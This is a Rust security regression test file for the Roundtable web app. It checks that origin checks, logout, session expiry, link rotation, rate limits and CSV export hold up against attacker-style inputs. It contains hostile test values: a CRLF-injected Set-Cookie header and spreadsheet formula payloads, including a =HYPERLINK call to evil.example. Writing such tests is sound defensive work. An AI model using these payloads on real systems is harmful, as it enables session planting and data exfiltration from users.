//! Security defects found by trying Roundtable as an attacker would: each test reproduces one
//! and shows it closed.

use reqwest::Method;

use crate::helpers::{spawn_app, TestApp};
use roundtable::domain::EmailAddress;

/// A fresh one-time sign-in link for `email`, as the login email would carry it.
async fn login_path(app: &TestApp, email: &str) -> String {
    let mut conn = app.conn().await;
    let member =
        roundtable::db::members::find_by_email(&mut conn, &EmailAddress::parse(email).unwrap())
            .await
            .unwrap()
            .expect("a member");
    let token = roundtable::secrets::random_token(32);
    roundtable::db::logins::create(
        &mut conn,
        member.id,
        &roundtable::secrets::hash_token(&token),
        chrono::Utc::now(),
    )
    .await
    .unwrap();
    format!("/login/{token}")
}

fn no_redirects() -> reqwest::Client {
    reqwest::Client::builder()
        .cookie_store(true)
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
}

#[tokio::test]
async fn sign_in_refuses_other_sites_and_control_characters_before_using_the_link() {
    let app = spawn_app().await;
    let link = login_path(&app, "organiser@example.org").await;
    let client = no_redirects();
    let url = format!("{}{link}", app.address);

    let page = client.get(&url).send().await.unwrap();
    assert_eq!(page.status(), 200);
    assert_eq!(
        page.headers()["referrer-policy"],
        "same-origin",
        "the sign-in page states its origin on the POST it makes"
    );

    for origin in ["https://evil.example", "null"] {
        let res = client
            .post(&url)
            .header("Origin", origin)
            .form(&[("next", "/dashboard")])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 403, "Origin: {origin}");
        assert!(res.headers().get("set-cookie").is_none());
    }
    let res = client
        .post(&url)
        .form(&[("next", "/dashboard/circles\r\nSet-Cookie: planted=1")])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 400);
    assert!(res.headers().get("set-cookie").is_none());

    // None of that used the link up: its owner still signs in with it.
    let res = client
        .post(&url)
        .header("Origin", &app.address)
        .form(&[("next", "/dashboard")])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 303);
    assert_eq!(res.headers()["location"], "/dashboard");
    let home = client
        .get(format!("{}/dashboard", app.address))
        .send()
        .await
        .unwrap();
    assert_eq!(home.status(), 200);
    assert_eq!(home.headers()["referrer-policy"], "same-origin");
}

#[tokio::test]
async fn public_token_pages_keep_sending_no_referrer() {
    let app = spawn_app().await;
    let r = app.browser(Method::GET, "/me", None).await;
    assert_eq!(r.status, 200);
    assert_eq!(r.headers["referrer-policy"], "no-referrer");
}

/// A circle with one member (`ada@example.org`) and one session that has just ended, and the
/// reflection link the member was emailed for it.
async fn reflection_link(app: &TestApp) -> (String, String, String) {
    let circle = app.circle_with_capacity(None).await;
    let circle_id = circle["id"].as_str().unwrap().to_string();
    let member = app
        .add_member(&circle_id, "ada@example.org")
        .await
        .expect(201)["member_id"]
        .as_str()
        .unwrap()
        .to_string();
    let sessions = app
        .schedule(&circle_id, serde_json::json!({ "freq": "weekly", "first_date": "2031-06-05", "local_time": "19:00", "duration_minutes": 90, "count": 1 }))
        .await;
    let sid = sessions[0]["id"].as_str().unwrap().to_string();
    let mut conn = app.conn().await;
    use diesel_async::RunQueryDsl;
    diesel::sql_query(format!("UPDATE sessions SET starts_at = now() - interval '3 hours', ends_at = now() - interval '2 hours' WHERE id = '{sid}'"))
        .execute(&mut conn)
        .await
        .unwrap();
    diesel::sql_query("UPDATE jobs SET run_at = now() WHERE state = 'queued'")
        .execute(&mut conn)
        .await
        .unwrap();
    app.run_pending_jobs().await;
    let prompt = app
        .sent_emails()
        .into_iter()
        .find(|m| m.subject.contains("A moment to reflect"))
        .expect("a reflection prompt");
    (circle_id, member, app.link_in(&prompt, "/reflect/"))
}

#[tokio::test]
async fn people_who_left_cannot_write_reflections_to_the_circle() {
    let app = spawn_app().await;
    let (circle, member, link) = reflection_link(&app).await;
    app.browser(Method::GET, &link, None).await.expect(200);
    app.delete(&format!("/api/v1/circles/{circle}/members/{member}"))
        .await
        .expect(200);

    let before = app.snapshot().await;
    let page = app.browser(Method::GET, &link, None).await;
    assert_eq!(page.status, 410, "{}", page.text());
    let posted = app
        .browser(
            Method::POST,
            &link,
            Some(&[("body", "Still here."), ("visibility", "circle")]),
        )
        .await;
    assert_eq!(posted.status, 410, "{}", posted.text());
    assert!(posted.text().contains("no longer a member"));
    assert_eq!(app.snapshot().await, before, "nothing was stored");
}

#[tokio::test]
async fn exports_neutralise_cells_that_a_spreadsheet_would_run() {
    let app = spawn_app().await;
    let circle = app
        .create_circle(serde_json::json!({ "name": "Formulas", "timezone": "UTC" }))
        .await;
    let id = circle["id"].as_str().unwrap().to_string();
    let formula = r#"=HYPERLINK("http://evil.example/?x","open")"#;
    // A stranger signs up through the public form; an organiser adds another.
    app.browser(
        Method::POST,
        "/c/formulas/join",
        Some(&[("display_name", formula), ("email", "=cmd@example.org")]),
    )
    .await
    .expect(200);
    let added = app
        .post(
            &format!("/api/v1/circles/{id}/members"),
            &serde_json::json!({ "email": "+sum@example.org", "display_name": "@SUM(A1:A9)" }),
        )
        .await
        .expect(201);
    let session = app
        .schedule(&id, serde_json::json!({ "freq": "weekly", "first_date": "2031-06-05", "local_time": "19:00", "duration_minutes": 60, "count": 1 }))
        .await[0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    app.put(
        &format!(
            "/api/v1/sessions/{session}/rsvps/{}",
            added["member_id"].as_str().unwrap()
        ),
        &serde_json::json!({ "response": "yes" }),
    )
    .await
    .expect(200);

    let assert_neutral = |csv: &str, risky: &[&str]| {
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let cells: Vec<String> = reader
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .collect();
        for r in risky {
            assert!(
                cells.iter().any(|c| *c == format!("'{r}")),
                "{r} is neutralised in:\n{csv}"
            );
        }
        for c in &cells {
            assert!(
                !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula cell {c:?} in:\n{csv}"
            );
        }
    };
    let dash = app.dashboard_as("organiser@example.org").await;
    let members = dash
        .get(&format!("/dashboard/circles/{id}/export/members.csv"))
        .await;
    assert_eq!(members.status, 200);
    assert_neutral(
        members.text(),
        &[
            formula,
            "=cmd@example.org",
            "@SUM(A1:A9)",
            "+sum@example.org",
        ],
    );
    let attendance = dash
        .get(&format!("/dashboard/circles/{id}/export/attendance.csv"))
        .await;
    assert_neutral(attendance.text(), &["@SUM(A1:A9)", "+sum@example.org"]);
    let out = crate::cli::roundtable(&app.db_url)
        .args(["export", "attendance", "--circle", "formulas"])
        .output()
        .unwrap();
    assert!(out.status.success());
    assert_neutral(
        &String::from_utf8(out.stdout).unwrap(),
        &["@SUM(A1:A9)", "+sum@example.org"],
    );
}

/// Sign in as `email` through a one-time link: the browser-like client and the session
/// cookie it was given (`name=value`), which an attacker might have copied.
async fn signed_in(app: &TestApp, email: &str) -> (reqwest::Client, String) {
    let link = login_path(app, email).await;
    let client = no_redirects();
    let res = client
        .post(format!("{}{link}", app.address))
        .form(&[("next", "/dashboard")])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 303);
    let cookie = res.headers()["set-cookie"]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    (client, cookie)
}

/// What the dashboard answers a request that carries only this cookie.
async fn with_cookie(app: &TestApp, cookie: &str) -> u16 {
    no_redirects()
        .get(format!("{}/dashboard", app.address))
        .header("Cookie", cookie)
        .send()
        .await
        .unwrap()
        .status()
        .as_u16()
}

async fn sign_out(app: &TestApp, client: &reqwest::Client, everywhere: bool) {
    let page = client
        .get(format!("{}/dashboard", app.address))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(page.contains("Sign out everywhere"));
    let csrf = crate::helpers::csrf_in(&page);
    let mut form = vec![("csrf", csrf.as_str())];
    if everywhere {
        form.push(("everywhere", "1"));
    }
    let res = client
        .post(format!("{}/logout", app.address))
        .form(&form)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 303);
}

#[tokio::test]
async fn signing_out_ends_the_session_for_every_copy_of_its_cookie() {
    let app = spawn_app().await;
    let (client, copied) = signed_in(&app, "organiser@example.org").await;
    assert_eq!(
        with_cookie(&app, &copied).await,
        200,
        "a copy works while signed in"
    );
    sign_out(&app, &client, false).await;
    assert_eq!(
        with_cookie(&app, &copied).await,
        303,
        "a cookie copied before signing out no longer opens the dashboard"
    );
}

#[tokio::test]
async fn sign_out_everywhere_ends_every_session_and_other_sign_ins_keep_theirs() {
    let app = spawn_app().await;
    let (laptop, laptop_cookie) = signed_in(&app, "organiser@example.org").await;
    let (_, phone_cookie) = signed_in(&app, "organiser@example.org").await;
    let (tablet, tablet_cookie) = signed_in(&app, "organiser@example.org").await;
    sign_out(&app, &tablet, false).await;
    assert_eq!(with_cookie(&app, &tablet_cookie).await, 303);
    assert_eq!(
        with_cookie(&app, &phone_cookie).await,
        200,
        "signing out one device leaves the others"
    );
    sign_out(&app, &laptop, true).await;
    assert_eq!(with_cookie(&app, &laptop_cookie).await, 303);
    assert_eq!(with_cookie(&app, &phone_cookie).await, 303);
}

#[tokio::test]
async fn losing_the_facilitator_role_ends_the_session_for_good() {
    let app = spawn_app().await;
    let circle = app.circle_with_capacity(None).await;
    let id = circle["id"].as_str().unwrap();
    let added = app
        .post(
            &format!("/api/v1/circles/{id}/members"),
            &serde_json::json!({ "email": "f@example.org", "display_name": "F", "role": "facilitator" }),
        )
        .await
        .expect(201);
    let member = added["member_id"].as_str().unwrap();
    let (_, cookie) = signed_in(&app, "f@example.org").await;
    assert_eq!(with_cookie(&app, &cookie).await, 200);
    let path = format!("/api/v1/circles/{id}/members/{member}");
    app.patch(&path, &serde_json::json!({ "role": "member" }))
        .await
        .expect(200);
    assert_eq!(with_cookie(&app, &cookie).await, 403);
    app.patch(&path, &serde_json::json!({ "role": "facilitator" }))
        .await
        .expect(200);
    assert_eq!(
        with_cookie(&app, &cookie).await,
        303,
        "the role came back, the old session did not"
    );
}

#[tokio::test]
async fn sessions_end_at_their_absolute_age_however_busy() {
    let app = spawn_app().await;
    let (_, cookie) = signed_in(&app, "organiser@example.org").await;
    #[derive(diesel::QueryableByName)]
    struct Age {
        #[diesel(sql_type = diesel::sql_types::Double)]
        hours: f64,
    }
    use diesel_async::RunQueryDsl;
    let mut conn = app.conn().await;
    let age: Age = diesel::sql_query(
        "SELECT extract(epoch FROM expires_at - created_at)::float8 / 3600 AS hours FROM staff_sessions",
    )
    .get_result(&mut conn)
    .await
    .unwrap();
    assert_eq!(age.hours, 168.0, "seven days by default");
    assert_eq!(with_cookie(&app, &cookie).await, 200);
    diesel::sql_query(
        "UPDATE staff_sessions SET created_at = now() - interval '8 days', expires_at = now() - interval '1 day'",
    )
    .execute(&mut conn)
    .await
    .unwrap();
    assert_eq!(
        with_cookie(&app, &cookie).await,
        303,
        "a session kept alive by requests still ends at its absolute age"
    );
}

/// Ask for a personal link for `email` and return the newest one mailed.
async fn mailed_personal_link(app: &TestApp, email: &str) -> String {
    app.browser(Method::POST, "/me", Some(&[("email", email)]))
        .await
        .expect(200);
    app.run_pending_jobs().await;
    let mail = app
        .sent_emails()
        .into_iter()
        .rev()
        .find(|m| m.subject == "Your Roundtable page")
        .expect("a personal-link email");
    app.link_in(&mail, "/me/")
}

/// The calendar feed's path as the personal page shows it.
async fn feed_on_page(app: &TestApp, me: &str) -> String {
    let page = app.browser(Method::GET, me, None).await.expect(200);
    let page = page.as_str().unwrap();
    assert!(page.contains("href=\"webcal://"), "a subscribe link");
    let url = page.split("<code class=\"url\">").nth(1).unwrap();
    let url: String = url.chars().take_while(|c| *c != '<').collect();
    url[app.settings.public_base().len()..].to_string()
}

#[tokio::test]
async fn a_new_personal_link_retires_the_old_ones_but_not_the_calendar_feed() {
    let app = spawn_app().await;
    let circle = app.circle_with_capacity(None).await;
    app.add_member(circle["id"].as_str().unwrap(), "ada@example.org")
        .await
        .expect(201);
    let first = mailed_personal_link(&app, "ada@example.org").await;
    let feed = feed_on_page(&app, &first).await;
    app.browser(Method::GET, &feed, None).await.expect(200);

    let second = mailed_personal_link(&app, "ada@example.org").await;
    assert_ne!(first, second);
    let old = app.browser(Method::GET, &first, None).await;
    assert_eq!(old.status, 410, "the older personal link is retired");
    assert!(old.text().contains("replaced by a newer one"));
    let old_post = app
        .browser(
            Method::POST,
            &format!("{first}/delete"),
            Some(&[("confirm", "yes")]),
        )
        .await;
    assert_eq!(old_post.status, 410, "and cannot erase the account");
    app.browser(Method::GET, &second, None).await.expect(200);
    app.browser(Method::GET, &feed, None).await.expect(200);

    // The feed can be reset on its own from the page.
    let res = app
        .browser(Method::POST, &format!("{second}/calendar"), None)
        .await;
    assert_eq!(res.status, 200, "{}", res.text());
    assert!(res.text().contains("new address"));
    assert_eq!(app.browser(Method::GET, &feed, None).await.status, 410);
    let new_feed = feed_on_page(&app, &second).await;
    assert_ne!(new_feed, feed);
    app.browser(Method::GET, &new_feed, None).await.expect(200);

    // Erasing the person retires everything.
    app.browser(
        Method::POST,
        &format!("{second}/delete"),
        Some(&[("confirm", "yes")]),
    )
    .await
    .expect(200);
    for path in [&second, &new_feed] {
        assert_eq!(
            app.browser(Method::GET, path, None).await.status,
            410,
            "{path}"
        );
    }
}

#[tokio::test]
async fn link_forms_do_the_same_work_for_known_and_unknown_addresses() {
    let (app, statements) = crate::helpers::spawn_app_counting().await;
    let circle = app.circle_with_capacity(None).await;
    app.add_member(circle["id"].as_str().unwrap(), "ada@example.org")
        .await
        .expect(201);
    use std::sync::atomic::Ordering;
    for (form, known) in [
        ("/login", "organiser@example.org"),
        ("/me", "ada@example.org"),
    ] {
        let mut work = Vec::new();
        for address in [known, "nobody@example.org"] {
            let jobs_before = app.table_counts().await;
            let before = statements.load(Ordering::SeqCst);
            let page = app
                .browser(Method::POST, form, Some(&[("email", address)]))
                .await
                .expect(200);
            let ran = statements.load(Ordering::SeqCst) - before;
            let jobs_after = app.table_counts().await;
            let queued = |c: &[(String, i64)]| c.iter().find(|(t, _)| t == "jobs").unwrap().1;
            work.push((ran, queued(&jobs_after) - queued(&jobs_before), page));
        }
        assert_eq!(
            work[0], work[1],
            "{form}: the same statements, the same rows and the same page for both addresses"
        );
    }
    app.run_pending_jobs().await;
    let mut links: Vec<(String, String)> = app
        .sent_emails()
        .into_iter()
        .filter(|m| !m.subject.starts_with("Welcome"))
        .map(|m| (m.subject, m.to))
        .collect();
    links.sort();
    assert_eq!(
        links.len(),
        2,
        "only the known addresses were mailed: {links:?}"
    );
    assert_eq!(links[0].0, "Your Roundtable page");
    assert!(links[0].1.contains("ada@example.org"));
    assert_eq!(links[1].0, "Your Roundtable sign-in link");
    assert!(links[1].1.contains("organiser@example.org"));
}

#[tokio::test]
async fn a_stranger_cannot_lock_the_owner_out_of_signing_in() {
    let app = crate::helpers::spawn_app_with(|s| s.limits.signups_per_address_per_hour = 3).await;
    let stranger = reqwest::Client::builder()
        .local_address(Some("127.0.0.2".parse().unwrap()))
        .build()
        .unwrap();
    let ask = |client: &reqwest::Client| {
        client
            .post(format!("{}/login", app.address))
            .form(&[("email", "organiser@example.org")])
            .send()
    };
    let mut statuses = Vec::new();
    for _ in 0..5 {
        statuses.push(ask(&stranger).await.unwrap().status().as_u16());
    }
    assert_eq!(
        statuses,
        [200, 200, 200, 429, 429],
        "the stranger is slowed down"
    );
    app.run_pending_jobs().await;
    let mailed = app.sent_emails().len();

    let owner = ask(&app.client).await.unwrap();
    assert_eq!(
        owner.status(),
        200,
        "the owner, from their own network, is not"
    );
    app.run_pending_jobs().await;
    assert_eq!(app.sent_emails().len(), mailed + 1, "and gets their link");
}

#[tokio::test]
async fn the_calendar_feed_has_a_name_and_a_subscribe_link() {
    let app = spawn_app().await;
    let circle = app.circle_with_capacity(None).await;
    app.add_member(circle["id"].as_str().unwrap(), "ada@example.org")
        .await
        .expect(201);
    let me = mailed_personal_link(&app, "ada@example.org").await;
    let feed = feed_on_page(&app, &me).await;
    let page = app.browser(Method::GET, &me, None).await;
    let https = format!("{}{feed}", app.settings.public_base());
    let webcal = format!("webcal://{}", https.split_once("://").unwrap().1);
    assert!(
        page.text().contains(&format!("href=\"{webcal}\"")),
        "a tappable webcal:// link to the same feed"
    );

    let body = app.browser(Method::GET, &feed, None).await.expect(200);
    let body = body.as_str().unwrap();
    let calendar = ical::IcalParser::new(body.as_bytes())
        .next()
        .expect("one calendar")
        .expect("a calendar the parser reads");
    let property = |name: &str| {
        calendar
            .properties
            .iter()
            .find(|p| p.name == name)
            .unwrap_or_else(|| panic!("{name} in {body}"))
    };
    assert_eq!(
        property("NAME").value.as_deref(),
        Some("Roundtable: ada's circles")
    );
    assert_eq!(
        property("X-WR-CALNAME").value.as_deref(),
        Some("Roundtable: ada's circles")
    );
    let refresh = property("REFRESH-INTERVAL");
    assert_eq!(refresh.value.as_deref(), Some("PT1H"));
    assert!(refresh
        .params
        .as_ref()
        .is_some_and(|p| p.iter().any(|(k, v)| k == "VALUE" && v == &["DURATION"])));
    assert_eq!(property("X-PUBLISHED-TTL").value.as_deref(), Some("PT1H"));
}
